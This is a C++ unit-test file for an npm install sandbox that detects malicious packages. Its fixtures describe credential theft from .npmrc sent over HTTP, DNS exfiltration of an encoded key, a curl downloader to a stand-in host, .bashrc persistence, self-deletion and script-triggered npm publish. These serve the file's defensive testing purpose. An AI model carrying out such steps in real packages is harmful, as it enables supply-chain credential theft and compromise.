#include "sandbox/report.h"

#include <gtest/gtest.h>

#include "base/hash.h"
#include "base/strings.h"
#include "sandbox/decoys.h"

namespace bulwark::sandbox {
namespace {

constexpr char kToken[] = "bwk_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA000000";
constexpr char kPkg[] = "/home/user/project/node_modules/pkg";

Event Ev(std::string kind, std::string phase, std::string path) {
  Event e;
  e.kind = std::move(kind);
  e.phase = std::move(phase);
  e.path = std::move(path);
  return e;
}

std::vector<std::string> Rules(const std::vector<Finding>& f) {
  std::vector<std::string> out;
  for (auto& x : f) out.push_back(x.rule + ":" + x.severity);
  return out;
}

TEST(Rules, DecoyReadAndCredentialSentAreMalicious) {
  std::vector<Event> ev = {Ev("read", "postinstall", "/home/user/.npmrc")};
  json::array sinks;
  sinks.push_back(json::object{{"kind", "http"}, {"port", 80}, {"body", StrCat("//x/:_authToken=", kToken)}});
  auto f = ApplyRules(ev, sinks, {}, false, kToken, kPkg);
  EXPECT_EQ(Rules(f), (std::vector<std::string>{"decoy-secret-read:high", "credential-sent:critical"}));
  EXPECT_EQ(Verdict(f), kVerdictMalicious);
}

TEST(Rules, EncodedSecretsAreFound) {
  json::array sinks;
  sinks.push_back(json::object{{"kind", "dns"}, {"name", StrCat(HexEncode(DecoyAwsKeyId(kToken)), ".x.test")}});
  auto f = ApplyRules({}, sinks, {}, false, kToken, kPkg);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].rule, "credential-sent");
}

TEST(Rules, DownloaderDroppedBinaryPersistenceAndDaemon) {
  Event curl = Ev("exec", "postinstall", "/usr/bin/curl");
  curl.argv = {"curl", "-o", "/tmp/x", "http://a.test/x"};
  Event dropped = Ev("exec", "postinstall", "/tmp/.stage2");
  dropped.ok = false;
  Event rc = Ev("write", "postinstall", "/home/user/.bashrc");
  json::array left;
  left.push_back(json::object{{"pid", 9}, {"cmdline", "node -e x"}});
  auto f = ApplyRules({curl, dropped, rc}, {}, left, false, kToken, kPkg);
  EXPECT_EQ(Rules(f), (std::vector<std::string>{"downloader-spawned:high", "dropped-executable:high",
                                                "write-outside-package:high", "left-running:high"}));
}

TEST(Rules, BenignInstallScriptIsNotMalicious) {
  // npm's own sh -c for the script, a compiler, a build inside the package, a failed fetch.
  Event sh = Ev("exec", "install", "/bin/sh");
  sh.argv = {"sh", "-c", "node build.js"};
  sh.parent_exe = "npm";
  Event cc = Ev("exec", "install", "/usr/bin/cc");
  Event tmp = Ev("write", "install", "/tmp/ccXYZ.s");
  Event net = Ev("connect", "postinstall", "");
  net.address = "127.0.0.2";
  net.port = 443;
  json::array sinks;
  sinks.push_back(json::object{{"kind", "dns"}, {"name", "downloads.example.test"}});
  auto f = ApplyRules({sh, cc, tmp, net}, sinks, {}, false, kToken, kPkg);
  EXPECT_EQ(Rules(f), (std::vector<std::string>{"network-during-install:medium"}));
  EXPECT_EQ(Verdict(f), kVerdictSuspicious);
  EXPECT_EQ(Verdict({}), kVerdictClean);
}

TEST(Rules, AntiAnalysisAndExfilNames) {
  Event sleep = Ev("sleep", "preinstall", "");
  sleep.number = 600;
  Event env = Ev("read", "preinstall", "/.dockerenv");
  json::array sinks;
  sinks.push_back(json::object{{"kind", "dns"}, {"name", std::string(60, 'a') + ".x.test"}});
  auto f = ApplyRules({sleep, env}, sinks, {}, true, kToken, kPkg);
  EXPECT_EQ(Rules(f), (std::vector<std::string>{"anti-analysis:medium", "anti-analysis:medium",
                                                "anti-analysis:medium", "dns-exfiltration:high"}));
}

TEST(Report, NpmWorkIsFilteredAndDiffShowsNew) {
  ReportInput in;
  in.name = "pkg";
  in.version = "1.0.1";
  in.honey_token = kToken;
  in.run.trace =
      "1 10.0 openat(AT_FDCWD</home/user/project>, \"/home/user/.npmrc\", O_RDONLY) = 3</home/user/.npmrc>\n"
      "1 10.1 execve(\"/bin/sh\", [\"sh\", \"-c\", \"curl x\"], [\"npm_lifecycle_event=postinstall\"]) = 0\n"
      "1 10.2 execve(\"/usr/bin/curl\", [\"curl\", \"x\"], [\"npm_lifecycle_event=postinstall\"]) = 0\n"
      "1 10.3 openat(AT_FDCWD</home/user/project/node_modules/pkg>, \"build/x\", O_WRONLY|O_CREAT, 0644) = 4</home/user/project/node_modules/pkg/build/x>\n"
      "1 10.4 openat(AT_FDCWD</home/user/project>, \"node_modules/other/index.js\", O_WRONLY|O_TRUNC) = 5</home/user/project/node_modules/other/index.js>\n";
  json::object r = BuildReport(in);
  EXPECT_EQ(*GetString(r, "verdict"), "malicious");
  const json::array& events = r.at("events").as_array();
  ASSERT_EQ(events.size(), 3u);  // npm's .npmrc read and the package's own build are not kept.
  std::string text = ToJson(r);
  EXPECT_TRUE(StrContains(text, "another package in node_modules")) << text;
  json::object before;
  before["events"] = json::array{json::object{{"kind", "exec"}, {"path", "/bin/sh"}, {"phase", "postinstall"}}};
  json::array diff = DiffReports(before, r);
  std::string d = ToJson(diff);
  EXPECT_TRUE(StrContains(d, "exec: curl (postinstall)")) << d;
  EXPECT_FALSE(StrContains(d, "exec: sh (postinstall)")) << d;
  EXPECT_TRUE(StrContains(FormatReport(r), "pkg@1.0.1: malicious"));
}

}  // namespace
}  // namespace bulwark::sandbox

namespace bulwark::sandbox {
namespace {

TEST(Report, NpmRunByAScriptIsThePackageManagerAndCleanupIsNotHiding) {
  ReportInput in;
  in.name = "pkg";
  in.version = "1.0.0";
  in.honey_token = kToken;
  in.run.trace =
      "5 10.0 execve(\"/usr/bin/sh\", [\"sh\", \"-c\", \"npm install x\"], [\"npm_lifecycle_event=postinstall\"]) = 0\n"
      "5 10.1 execve(\"/usr/bin/node\", [\"node\", \"/usr/bin/npm\", \"install\", \"x\"], [\"npm_lifecycle_event=postinstall\"]) = 0\n"
      "5 10.2 openat(AT_FDCWD</x>, \"/home/user/.npmrc\", O_RDONLY) = 3</home/user/.npmrc>\n"
      "6 10.3 execve(\"/usr/bin/node\", [\"node\", \"install.js\"], [\"npm_lifecycle_event=postinstall\"]) = 0\n"
      "6 10.4 openat(AT_FDCWD</x>, \"/home/user/project/node_modules/pkg/tmp/package.json\", O_WRONLY|O_CREAT, 0644) = 3</home/user/project/node_modules/pkg/tmp/package.json>\n"
      "6 10.5 unlink(\"/home/user/project/node_modules/pkg/tmp/package.json\") = 0\n"
      "6 10.6 unlink(\"/home/user/project/node_modules/pkg/install.js\") = 0\n"
      "7 10.7 execve(\"/usr/bin/npm\", [\"npm\", \"publish\"], [\"npm_lifecycle_event=postinstall\"]) = 0\n";
  json::object r = BuildReport(in);
  std::string findings = ToJson(r.at("findings"));
  EXPECT_FALSE(StrContains(findings, "decoy-secret-read")) << findings;
  EXPECT_FALSE(StrContains(findings, "tmp/package.json")) << findings;
  EXPECT_TRUE(StrContains(findings, "self-deletion: /home/user/project/node_modules/pkg/install.js")) << findings;
  EXPECT_TRUE(StrContains(findings, "npm-publish-from-script")) << findings;
}

}  // namespace
}  // namespace bulwark::sandbox
